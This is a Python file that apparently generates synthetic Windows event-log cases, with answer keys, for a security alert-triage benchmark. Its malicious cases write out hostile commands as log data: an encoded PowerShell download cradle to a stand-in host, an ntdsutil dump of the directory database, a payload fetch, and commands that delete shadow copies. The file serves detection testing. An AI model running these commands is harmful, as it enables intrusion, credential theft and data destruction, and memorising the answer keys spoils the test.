# ruff: noqa: E501
"""Windows cases: event records nested as the event log's XML is, and flat as a shipper sends them."""

import base64
from datetime import datetime
from typing import Any

from casebook import Case, Log, iso

SYSMON = "Microsoft-Windows-Sysmon"
SECURITY = "Microsoft-Windows-Security-Auditing"


def nested(case: Case, when: datetime, host: str, provider: str, event_id: int, **data: Any) -> dict[str, Any]:
    """An event as evtx converters write it: Event, System, EventData."""
    channel = {SYSMON: f"{SYSMON}/Operational", SECURITY: "Security"}.get(provider, "System")
    return {
        "Event": {
            "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
            "System": {
                "Provider": {"#attributes": {"Name": provider}},
                "EventID": event_id,
                "Level": 4 if provider == SYSMON else 0,
                "TimeCreated": {"#attributes": {"SystemTime": iso(when, 6)}},
                "EventRecordID": int(when.timestamp() * 10) % 10**7,
                "Execution": {"#attributes": {"ProcessID": 4, "ThreadID": case.dice.randrange(100, 9000)}},
                "Channel": channel,
                "Computer": host,
            },
            "EventData": data,
        }
    }


def flat(case: Case, when: datetime, host: str, provider: str, event_id: int, **data: Any) -> dict[str, Any]:
    """An event as a log shipper with dotted keys sends it."""
    return {
        "@timestamp": iso(when, 3),
        "agent.type": "winlogbeat",
        "agent.ephemeral_id": case.uuid(),
        "event.code": str(event_id),
        "event.provider": provider,
        "host.name": host,
        "winlog.channel": "Microsoft-Windows-Sysmon/Operational" if provider == SYSMON else "Security",
        "winlog.record_id": str(int(when.timestamp() * 10) % 10**7),
        **{f"winlog.event_data.{name}": value for name, value in data.items()},
    }


def process(case: Case, user: str, image: str, command: str, parent: str, parent_command: str = "") -> dict[str, Any]:
    """The data of a Sysmon process creation."""
    return {
        "RuleName": "-",
        "ProcessGuid": "{" + case.uuid() + "}",
        "ProcessId": case.dice.randrange(1000, 9999),
        "Image": image,
        "CommandLine": command,
        "CurrentDirectory": "C:\\Windows\\system32\\",
        "User": user,
        "IntegrityLevel": "System" if "SYSTEM" in user else "Medium",
        "Hashes": f"SHA256={case.hex(64).upper()}",
        "ParentImage": parent,
        "ParentCommandLine": parent_command or f'"{parent}"',
    }


def logon(user: str, domain: str, kind: int, address: str, host: str) -> dict[str, Any]:
    """The data of a successful log-on (4624)."""
    return {
        "SubjectUserSid": "S-1-0-0",
        "TargetUserName": user,
        "TargetDomainName": domain,
        "LogonType": kind,
        "LogonProcessName": "Kerberos" if kind == 3 else "User32 ",
        "AuthenticationPackageName": "Kerberos" if kind == 3 else "Negotiate",
        "WorkstationName": host,
        "IpAddress": address,
        "IpPort": "0",
    }


ORDINARY_PROCESSES = (
    ("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p", "C:\\Windows\\System32\\services.exe"),
    ("C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe KEYROAMING", "C:\\Windows\\System32\\svchost.exe"),
    ("C:\\Windows\\System32\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", "C:\\Windows\\System32\\cmd.exe"),
    ("C:\\Program Files\\Mozilla Firefox\\firefox.exe", '"C:\\Program Files\\Mozilla Firefox\\firefox.exe" -contentproc', "C:\\Program Files\\Mozilla Firefox\\firefox.exe"),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", '"EXCEL.EXE" "Q3 figures.xlsx"', "C:\\Windows\\explorer.exe"),
    ("C:\\Windows\\System32\\gpupdate.exe", "gpupdate.exe /target:computer", "C:\\Windows\\System32\\svchost.exe"),
    ("C:\\Windows\\System32\\notepad.exe", '"C:\\Windows\\system32\\notepad.exe" notes.txt', "C:\\Windows\\explorer.exe"),
    ("C:\\Program Files\\7-Zip\\7zFM.exe", '"C:\\Program Files\\7-Zip\\7zFM.exe"', "C:\\Windows\\explorer.exe"),
)  # fmt: skip


def background(
    case: Case, log: Log, shape: Any, hosts: list[str], domain: str, users: list[str], events: int, hours: float
) -> None:
    """Ordinary processes, log-ons, service tickets and name look-ups."""
    for _ in range(events):
        when, host, user = case.sometime(hours=hours), case.dice.choice(hosts), case.dice.choice(users)
        kind = case.dice.random()
        if kind < 0.45:
            image, command, parent = case.dice.choice(ORDINARY_PROCESSES)
            data = process(case, f"{domain}\\{user}", image, command, parent)
            log.add(when, shape(case, when, host, SYSMON, 1, **data))
        elif kind < 0.7:
            data = logon(
                user, domain, case.dice.choice((2, 3, 3, 7)), f"10.40.8.{20 + users.index(user)}", host.split(".")[0]
            )
            log.add(when, shape(case, when, host, SECURITY, 4624, **data))
        elif kind < 0.85:
            data = {
                "SubjectUserName": user,
                "SubjectDomainName": domain,
                "TargetLogonId": hex(case.dice.getrandbits(28)),
                "LogonType": 3,
            }
            log.add(when, shape(case, when, host, SECURITY, 4634, **data))
        else:
            name = case.dice.choice(
                ("intranet.halden.example", "updates.vendor.example", "mail.halden.example", "time.windows.example")
            )
            data = {
                "ProcessId": 1200,
                "QueryName": name,
                "QueryStatus": "0",
                "Image": "C:\\Windows\\System32\\svchost.exe",
            }
            log.add(when, shape(case, when, host, SYSMON, 22, **data))


def tickets(case: Case, log: Log, shape: Any, dc: str, domain: str, users: list[str], count: int, hours: float) -> None:
    """Ordinary Kerberos service tickets, strongly encrypted."""
    for _ in range(count):
        when, user = case.sometime(hours=hours), case.dice.choice(users)
        service = case.dice.choice(("FS01$", "PRINT02$", "krbtgt", "WEB03$"))
        log.add(when, shape(case, when, dc, SECURITY, 4769, **_ticket(user, domain, service, "0x12", users)))


def _ticket(user: str, domain: str, service: str, encryption: str, users: list[str]) -> dict[str, Any]:
    return {
        "TargetUserName": f"{user}@{domain.upper()}.EXAMPLE",
        "TargetDomainName": f"{domain.upper()}.EXAMPLE",
        "ServiceName": service,
        "TicketOptions": "0x40810000",
        "TicketEncryptionType": encryption,
        "IpAddress": f"::ffff:10.40.8.{20 + users.index(user)}",
        "Status": "0x0",
    }


def encoded(script: str) -> str:
    """Encode a PowerShell script as -EncodedCommand wants it."""
    return base64.b64encode(script.encode("utf-16-le")).decode()


def kerberoasting() -> Case:
    """Service tickets with weak encryption, then remote execution and a copy of the directory."""
    case = Case("m01_windows_nested_kerberoasting", "2025-03-11 07:30:00")
    log = case.log("dc-and-servers.jsonl")
    users = ["akerr", "bsmith", "cdoyle", "dnolan", "efinn", "gward", "svc_sql"]
    dc, target = "HLD-DC1.halden.example", "HLD-SQL2.halden.example"
    background(case, log, nested, [dc, target, "HLD-FS01.halden.example"], "HALDEN", users, 190, 4)
    tickets(case, log, nested, dc, "HALDEN", users[:-1], 90, 4)
    for position, service in enumerate(
        ("svc_sql", "svc_web", "svc_sched", "svc_report", "svc_bi", "svc_crm", "svc_print", "svc_scan")
    ):
        when = case.after(hours=2, seconds=3 * position)
        log.add(
            when, nested(case, when, dc, SECURITY, 4769, **_ticket("gward", "HALDEN", service, "0x17", users)), "roast"
        )
    when = case.after(hours=2, minutes=41)
    log.add(
        when,
        nested(case, when, target, SECURITY, 4624, **logon("svc_sql", "HALDEN", 3, "10.40.8.25", "HLD-WS118")),
        "logon",
    )
    script = encoded("IEX(New-Object Net.WebClient).DownloadString('http://files.brakelane.example/a.ps1')")
    steps = (
        (43, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", f"powershell.exe -nop -w hidden -enc {script}", "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", target, "wmi"),
        (55, "C:\\Windows\\System32\\net.exe", 'net group "Domain Admins" /domain', "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", target, "discovery"),
        (58, "C:\\Windows\\System32\\nltest.exe", "nltest /dclist:halden", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", target, "discovery"),
        (71, "C:\\Windows\\System32\\ntdsutil.exe", 'ntdsutil "ac i ntds" "ifm" "create full C:\\PerfLogs\\x1" q q', "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", dc, "ntds"),
    )  # fmt: skip
    for minutes, image, command, parent, host, step in steps:
        when = case.after(hours=2, minutes=minutes)
        log.add(
            when, nested(case, when, host, SYSMON, 1, **process(case, "HALDEN\\svc_sql", image, command, parent)), step
        )
    when = case.after(hours=2, minutes=43, seconds=2)
    data = {
        "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "User": "HALDEN\\svc_sql",
        "QueryName": "files.brakelane.example",
        "QueryStatus": "0",
        "QueryResults": "203.0.113.144;",
    }
    log.add(when, nested(case, when, target, SYSMON, 22, **data), "~c2")
    when = case.after(hours=2, minutes=43, seconds=3)
    data = {
        "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "User": "HALDEN\\svc_sql",
        "Protocol": "tcp",
        "Initiated": "true",
        "SourceIp": "10.40.9.12",
        "DestinationIp": "203.0.113.144",
        "DestinationPort": "80",
    }
    log.add(when, nested(case, when, target, SYSMON, 3, **data), "c2")
    case.alert = {
        "rule": "Encoded PowerShell from the WMI provider host",
        "@timestamp": iso(case.after(hours=2, minutes=43), 3),
        "host": {"name": target},
        "process": {"parent": "WmiPrvSE.exe", "user": "HALDEN\\svc_sql"},
        "risk_score": 73,
    }
    return case.judge(
        "malicious",
        "high critical",
        "gward's account asks for weakly encrypted tickets of eight service accounts; svc_sql is then used from gward's machine to run encoded PowerShell through WMI, list administrators, and copy the directory database on the domain controller.",
        steps={"roast": "eight RC4 service tickets for one user within seconds", "wmi": "hidden encoded PowerShell under the WMI provider host", "ntds": "ntdsutil writes a full copy of the directory"},
        optional={"logon": "the roasted account logs on from a workstation", "discovery": "administrators and domain controllers are listed", "c2": "PowerShell connects to a server outside"},
        techniques="T1558.003 T1047 T1003.003",
        more_techniques="T1059.001 T1027 T1105 T1071.001 T1069.002 T1018 T1087.002 T1078.002 T1021 T1558 T1003 T1482 T1027.010 T1550 T1140",
        iocs=("203.0.113.144", "files.brakelane.example"),
        more_iocs=("http://files.brakelane.example/a.ps1", "svc_sql", "gward", "10.40.8.25", "HLD-WS118", "C:\\PerfLogs\\x1", "a.ps1"),
        not_iocs=("HLD-DC1.halden.example", "10.40.9.12", "intranet.halden.example"),
    )  # fmt: skip


def ransomware() -> Case:
    """A script from a mail attachment ends in encrypted files."""
    case = Case("m02_windows_flat_ransomware", "2025-06-19 11:00:00")
    log = case.log("winlogbeat.ndjson")
    users = ["mona", "piet", "ravi", "lena"]
    host, user = "ORB-LT-077", "ORBIS\\lena"
    background(case, log, flat, [host, "ORB-LT-031", "ORB-LT-055"], "ORBIS", users, 260, 3)
    home = "C:\\Users\\lena"
    wscript, shell, dropped = (
        "C:\\Windows\\System32\\wscript.exe",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        f"{home}\\AppData\\Roaming\\ndsvc\\ndsvc.exe",
    )
    chain = (
        (3000, wscript, f'"{wscript}" "{home}\\AppData\\Local\\Temp\\invoice_88213.js"', "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "script"),
        (3004, shell, f"powershell -ep bypass -c \"iwr https://cdn.tallowmere.example/n.bin -OutFile {dropped}; start {dropped}\"", wscript, "download"),
        (3012, dropped, f'"{dropped}"', shell, "payload"),
        (3400, "C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", dropped, "recovery"),
        (3403, "C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic shadowcopy delete", dropped, "recovery"),
        (3406, "C:\\Windows\\System32\\bcdedit.exe", "bcdedit /set {default} recoveryenabled No", dropped, "recovery"),
    )  # fmt: skip
    for seconds, image, command, parent, step in chain:
        when = case.after(seconds=seconds)
        log.add(when, flat(case, when, host, SYSMON, 1, **process(case, user, image, command, parent)), step)
    when = case.after(seconds=3014)
    run_key = {
        "EventType": "SetValue",
        "Image": dropped,
        "TargetObject": "HKU\\S-1-5-21-990\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\ndsvc",
        "Details": dropped,
    }
    log.add(when, flat(case, when, host, SYSMON, 13, **run_key), "run_key")
    for minute in range(5):
        when = case.after(seconds=3020 + 60 * minute)
        data = {
            "Image": dropped,
            "User": user,
            "Protocol": "tcp",
            "Initiated": "true",
            "SourceIp": "10.77.3.77",
            "DestinationIp": "198.51.100.23",
            "DestinationPort": "443",
            "DestinationHostname": "api.tallowmere.example",
        }
        log.add(when, flat(case, when, host, SYSMON, 3, **data), "beacon")
    for number in range(60):
        when = case.after(seconds=3410 + 0.4 * number)
        name = f"{home}\\Documents\\{case.dice.choice(('plan', 'offer', 'photo', 'minutes', 'budget'))}_{number}.{case.dice.choice(('docx', 'xlsx', 'pdf'))}.lockd"
        log.add(
            when,
            flat(case, when, host, SYSMON, 11, Image=dropped, TargetFilename=name, CreationUtcTime=iso(when, 3)),
            "encrypt",
        )
    when = case.after(seconds=3436)
    log.add(
        when,
        flat(
            case,
            when,
            host,
            SYSMON,
            11,
            Image=dropped,
            TargetFilename=f"{home}\\Desktop\\RESTORE_FILES.txt",
            CreationUtcTime=iso(when, 3),
        ),
        "encrypt",
    )
    case.alert = {
        "alert_id": 55120,
        "name": "Shadow copies deleted",
        "detected": int(case.after(seconds=3400).timestamp()),
        "asset": host,
        "account": user,
        "cmd": "vssadmin.exe delete shadows /all /quiet",
        "priority": "P1",
    }
    return case.judge(
        "malicious",
        "critical high",
        "A script attached to a mail runs in lena's session, downloads a program that persists in a run key, connects out, deletes the shadow copies and encrypts her documents.",
        steps={"script": "Outlook starts a script from the temporary folder", "download": "PowerShell fetches and starts a program", "recovery": "shadow copies and recovery are disabled", "encrypt": "documents get a new extension within seconds and a note appears"},
        optional={"payload": "the downloaded program runs", "run_key": "it persists in a run key", "beacon": "it connects to a server outside every minute"},
        techniques="T1490 T1486 T1059.007",
        more_techniques="T1204.002 T1566.001 T1059.001 T1105 T1547.001 T1071.001 T1059 T1566 T1204 T1547 T1047 T1083 T1059.005",
        iocs=("198.51.100.23", "cdn.tallowmere.example", "ndsvc.exe"),
        more_iocs=("api.tallowmere.example", dropped, "https://cdn.tallowmere.example/n.bin", "n.bin", "invoice_88213.js", "RESTORE_FILES.txt", "tallowmere.example", f"{home}\\AppData\\Local\\Temp\\invoice_88213.js", f"{home}\\Desktop\\RESTORE_FILES.txt"),
        not_iocs=(host, user, "lena", "10.77.3.77"),
    )  # fmt: skip


def remote_management() -> Case:
    """A configuration server runs encoded PowerShell on every machine, every hour, in office hours and out."""
    case = Case("b01_windows_nested_config_server", "2025-02-05 00:00:00")
    log = case.log("forwarded-events.jsonl")
    hosts = [f"KVN-APP{n}.kvarn.example" for n in range(1, 6)]
    background(case, log, nested, hosts, "KVARN", ["ola", "siri", "marte", "nils"], 170, 10)
    script = encoded(
        "&chcp.com 65001 > $null; $exec_wrapper_str = $input | Out-String; . ([ScriptBlock]::Create($exec_wrapper_str))"
    )
    shell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    for hour in range(10):
        for position, host in enumerate(hosts):
            when = case.after(hours=hour, minutes=5, seconds=8 * position)
            step = "alerted" if hour == 9 and position == 2 else "habit"
            log.add(
                when,
                nested(case, when, host, SECURITY, 4624, **logon("svc_ansible", "KVARN", 3, "10.12.0.40", "KVN-CFG1")),
                "management",
            )
            command = f"PowerShell -NoProfile -NonInteractive -ExecutionPolicy Unrestricted -EncodedCommand {script}"
            log.add(
                case.after(hours=hour, minutes=5, seconds=8 * position + 1),
                nested(
                    case,
                    case.after(hours=hour, minutes=5, seconds=8 * position + 1),
                    host,
                    SYSMON,
                    1,
                    **process(
                        case,
                        "KVARN\\svc_ansible",
                        shell,
                        command,
                        "C:\\Windows\\System32\\wsmprovhost.exe",
                        "C:\\Windows\\system32\\wsmprovhost.exe -Embedding",
                    ),
                ),
                step,
            )
    case.alert = {
        "title": "Suspicious encoded PowerShell over remote management",
        "severity": "high",
        "time": iso(case.after(hours=9, minutes=5, seconds=17)),
        "entities": {"host": hosts[2], "user": "KVARN\\svc_ansible", "parent": "wsmprovhost.exe"},
    }
    return case.judge(
        "benign",
        "informational low",
        "The configuration server KVN-CFG1 logs on with its service account to all five servers at five past every hour and runs the same encoded wrapper.",
        steps={"alerted": "the alerted process", "habit": "the same command on every server, every hour"},
        optional={"management": "each run follows a log-on from the configuration server"},
        not_iocs=("10.12.0.40", "svc_ansible", hosts[2]),
    )  # fmt: skip


def software_deployment() -> Case:
    """A deployment tool copies a service to each machine, as it does every time software is rolled out."""
    case = Case("b02_windows_flat_software_deployment", "2025-09-02 06:00:00")
    log = case.log("endpoints.ndjson")
    machines = [f"TRN-PC{n:02d}" for n in range(1, 25)]
    background(case, log, flat, machines, "TORN", ["sue", "tom", "wes", "amy", "kay"], 200, 9)
    runner = "C:\\Windows\\AdminArsenal\\PDQDeployRunner\\service-1\\PDQDeployRunner-1.exe"
    packages = (
        (1.0, "Firefox-142.0-x64.msi", "CHG-5511"),
        (4.0, "7z2501-x64.msi", "CHG-5512"),
        (7.0, "AcroPro_25.1.msp", "CHG-5519"),
    )
    for hours, package, change in packages:
        for position, machine in enumerate(machines):
            seconds = 25 * position
            when = case.after(hours=hours, seconds=seconds)
            step = "alerted" if package.startswith("Acro") and position == 11 else "habit"
            log.add(
                when,
                flat(case, when, machine, SECURITY, 4624, **logon("deploy_adm", "TORN", 3, "10.5.0.9", "TRN-DEPLOY")),
                "~logon",
            )
            when = case.after(hours=hours, seconds=seconds + 2)
            service = {
                "ServiceName": "PDQDeployRunner-1",
                "ImagePath": runner,
                "ServiceType": "user mode service",
                "StartType": "demand start",
                "AccountName": "LocalSystem",
            }
            log.add(when, flat(case, when, machine, "Service Control Manager", 7045, **service), step)
            when = case.after(hours=hours, seconds=seconds + 4)
            install = process(
                case,
                "NT AUTHORITY\\SYSTEM",
                "C:\\Windows\\System32\\msiexec.exe",
                f"msiexec.exe /i \\\\TRN-DEPLOY\\repo\\{change}\\{package} /qn /norestart",
                runner,
            )
            log.add(when, flat(case, when, machine, SYSMON, 1, **install), "install")
    case.alert = {
        "signature": "Remote service installation resembling PsExec",
        "level": 12,
        "when": case.after(hours=7, seconds=277).strftime("%d/%m/%Y %H:%M:%S"),
        "computer": machines[11],
        "service": "PDQDeployRunner-1",
        "installed_from": "10.5.0.9",
    }
    return case.judge(
        "benign",
        "informational low",
        "TRN-DEPLOY installs its runner service on each of 24 machines for three roll-outs of the day; each installs a signed package from the change's folder in the software repository.",
        steps={"alerted": "the alerted service installation", "habit": "the same on every machine, three times that day", "install": "the service only installs packages from the repository, under a change number"},
        not_iocs=("10.5.0.9", "deploy_adm", "PDQDeployRunner-1.exe", machines[11]),
    )  # fmt: skip


def missing_host() -> Case:
    """The alert speaks of a machine and an hour that the logs do not cover."""
    case = Case("x01_windows_nested_other_host", "2025-04-22 13:00:00")
    log = case.log("collected.jsonl")
    background(
        case,
        log,
        nested,
        ["FEN-WS10.fenwick.example", "FEN-WS11.fenwick.example"],
        "FENWICK",
        ["jo", "max", "uma"],
        150,
        2,
    )
    case.alert = {
        "title": "Memory of the security authority read by an unknown program",
        "severity": "critical",
        "timestamp": "2025-04-22T19:48:10+02:00",
        "host": "FEN-WS27.fenwick.example",
        "user": "FENWICK\\ada",
        "file": {"name": "d64.exe", "sha256": case.hex(64)},
    }
    return case.judge(
        "insufficient_evidence",
        "informational low medium",
        "The logs hold two other machines, two hours earlier; nothing in them speaks for or against the alert.",
        steps={},
        not_iocs=("FEN-WS27.fenwick.example",),
    )


CASES = (kerberoasting, ransomware, remote_management, software_deployment, missing_host)
